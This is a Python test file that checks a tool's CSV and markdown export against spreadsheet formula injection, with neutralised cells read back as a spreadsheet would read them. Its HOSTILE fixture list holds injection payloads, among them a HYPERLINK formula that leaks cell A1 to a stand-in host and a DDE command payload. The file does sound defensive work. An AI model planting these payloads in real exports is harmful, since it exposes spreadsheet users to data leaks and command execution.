"""No CSV or markdown cell starts a spreadsheet formula; numbers stay numbers (issue 31, item M).

Folder names ``=HYPERLINK(...)`` and ``@SUM(1+1)`` reached ``--format csv`` unneutralised. The
file is read back as a spreadsheet would read it (the csv module, cell by cell).
"""

from __future__ import annotations

import csv
import io

from hypothesis import given, strategies as st

from pytest_assistant_eval.tabular.cell_safety import FORMULA_STARTS
from pytest_assistant_eval.tabular.formats import Column, DataTable, to_csv, to_markdown

HOSTILE = ['=HYPERLINK("http://x.example/?"&A1,"click")', "@SUM(1+1)", "+1+1", "-2+3", "\t=1", "\r=1",
           "=cmd|' /C calc'!A0"]


def _table(names, numbers):
    return DataTable("t", 1, "T", [Column("folder", "string"), Column("diff", "number"), Column("n", "integer")],
                     [{"folder": f, "diff": d, "n": n} for f, d, n in zip(names, numbers, range(-3, 100))])


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_no_csv_cell_starts_a_formula_and_negative_numbers_stay_numbers():
    rows = _cells(to_csv(_table(HOSTILE, [-0.25, 1.5, -3.0, 0.0, -1e-9, 2.0, -7.0])))
    for row in rows[1:]:
        assert not row[1].startswith(FORMULA_STARTS), row
        assert row[1].startswith("'")
    assert [float(r[2]) for r in rows[1:]][0] == -0.25 and rows[1][3] == "-3"  # numbers as numbers
    assert rows[1][1] == "'" + HOSTILE[0]  # the text kept, behind the apostrophe


@given(st.lists(st.text(max_size=12), min_size=1, max_size=8))
def test_any_text_cell_read_back_starts_no_formula(names):
    rows = _cells(to_csv(_table(names, [-1.0] * len(names))))
    assert all(not r[1].startswith(FORMULA_STARTS) for r in rows[1:])
    assert all(r[2] == "-1.0" for r in rows[1:])


def test_no_markdown_cell_starts_a_formula():
    text = to_markdown([_table(HOSTILE, [-0.25] * len(HOSTILE))])
    for line in text.splitlines()[4:]:
        cells = [c.strip() for c in line.strip("|").split(" | ")]
        assert not cells[0].startswith(FORMULA_STARTS), cells
        assert cells[1] == "-0.25"
